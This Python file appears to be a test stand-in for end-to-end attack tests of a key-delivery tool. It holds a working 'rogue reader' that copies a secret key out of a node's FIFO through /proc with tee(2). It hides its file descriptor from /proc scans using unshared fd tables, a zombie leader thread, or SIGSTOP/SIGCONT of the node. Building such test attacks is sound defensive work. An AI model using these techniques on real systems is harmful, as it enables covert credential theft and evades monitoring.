"""Hidden-reader stand-in for tests/e2e_attacks.rs.

A process of the node's uid, not a descendant of ssm-cosmovisor's child, that copies the key
out of the node's FIFO while keeping its fd where a scan of /proc/<pid>/fd does not look:

  unshare        a thread unshares its fd table (unshare(CLONE_FILES)) and opens the FIFO
                 there: the fd is in that thread's table only (/proc/<pid>/task/<tid>/fd).
  zombie-leader  the main thread exits on its own (SYS_exit, not exit_group): the leader is a
                 zombie whose /proc/<pid>/fd is empty, while a thread holds the FIFO.
  stop-tee       (issue 20 item 2a) SIGSTOPs the node the moment it holds the FIFO, waits 50 ms
                 (for the tool's last scan and its write), opens the FIFO through
                 /proc/<node>/fd/N, tees what arrives within 300 ms, closes at once and
                 SIGCONTs the node, which then reads the key as if nothing happened.

usage: rogue_reader.py MODE MARKER KEY_NAME OUT_DIR ROUNDS

It watches every process whose command line holds MARKER and whose argv[0] ends in "noded"
(the node stand-in), waits for an fd of it that points at KEY_NAME (the armed FIFO), opens it
through /proc/<node>/fd/N and copies whatever the pipe receives with tee(2), which leaves the
data for the node to read. It keeps the fd open a second longer (a real rogue would not let go
early), then writes OUT_DIR/copied-<node pid> (the bytes, possibly none) and goes on with the
next node, ROUNDS times. OUT_DIR/ready is written once it watches.
"""

import ctypes
import os
import select
import signal
import sys
import threading
import time

CLONE_FILES = 0x400
SYS_EXIT = {"x86_64": 60, "aarch64": 93}[os.uname().machine]
SPLICE_F_NONBLOCK = 2

libc = ctypes.CDLL(None, use_errno=True)


NOT_NODES = set()


def nodes(marker):
    out = []
    for p in os.listdir("/proc"):
        if not p.isdigit() or p in NOT_NODES:
            continue
        try:
            with open(f"/proc/{p}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if argv and argv[0].endswith(b"noded") and marker in b"\0".join(argv):
            out.append(int(p))
        elif argv != [b""] and marker not in b"\0".join(argv):
            # Unrelated to this home; it could only become the node by an exec of a
            # process that mentions the home (a fork of the tool or cosmovisor does).
            NOT_NODES.add(p)
    return out


def fifo_fd(pid, key_name):
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                if key_name in os.readlink(f"/proc/{pid}/fd/{fd}"):
                    return fd
            except OSError:
                pass
    except OSError:
        pass
    return None


def copy_from(pid, fd, linger=1.0, wait=20.0):
    """Opens the node's FIFO through /proc and tees what arrives; returns the bytes."""
    try:
        f = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return None
    r, w = os.pipe()
    got = b""
    deadline = time.monotonic() + wait
    p = select.poll()
    p.register(f, select.POLLIN)
    while time.monotonic() < deadline and not got:
        ev = p.poll(50)
        if not ev:
            continue
        if ev[0][1] & select.POLLIN:
            n = libc.tee(f, w, 65536, SPLICE_F_NONBLOCK)
            if n > 0:
                got = os.read(r, n)
        elif ev[0][1] & select.POLLHUP:
            # The writer closed without writing (refused): nothing to copy.
            break
    time.sleep(linger)
    for x in (f, r, w):
        os.close(x)
    return got


def stop_and_tee(pid, fd):
    """The node stopped while its pipe is opened and copied, then let go on."""
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        return None
    try:
        time.sleep(0.05)
        return copy_from(pid, fd, linger=0.0, wait=0.3)
    finally:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass


def rogue(mode, marker, key_name, out_dir, rounds):
    if mode == "unshare" and libc.unshare(CLONE_FILES) != 0:
        raise OSError(ctypes.get_errno(), "unshare(CLONE_FILES)")
    with open(os.path.join(out_dir, "ready"), "w") as f:
        f.write(str(os.getpid()))
    seen = set()
    while len(seen) < rounds:
        for pid in nodes(marker):
            if pid in seen:
                continue
            fd = fifo_fd(pid, key_name)
            if fd is None:
                continue
            seen.add(pid)
            got = stop_and_tee(pid, fd) if mode == "stop-tee" else copy_from(pid, fd)
            tmp = os.path.join(out_dir, f".copied-{pid}")
            with open(tmp, "wb") as f:
                f.write(got or b"")
            os.rename(tmp, os.path.join(out_dir, f"copied-{pid}"))
        time.sleep(0.0002)
    os._exit(0)


def main():
    mode, marker, key_name, out_dir, rounds = sys.argv[1:6]
    args = (mode, marker.encode(), key_name, out_dir, int(rounds))
    t = threading.Thread(target=rogue, args=args)
    t.start()
    if mode == "zombie-leader":
        # Only this thread ends; ctypes releases the GIL for the call and it never returns.
        libc.syscall(SYS_EXIT, 0)
    t.join()


if __name__ == "__main__":
    main()
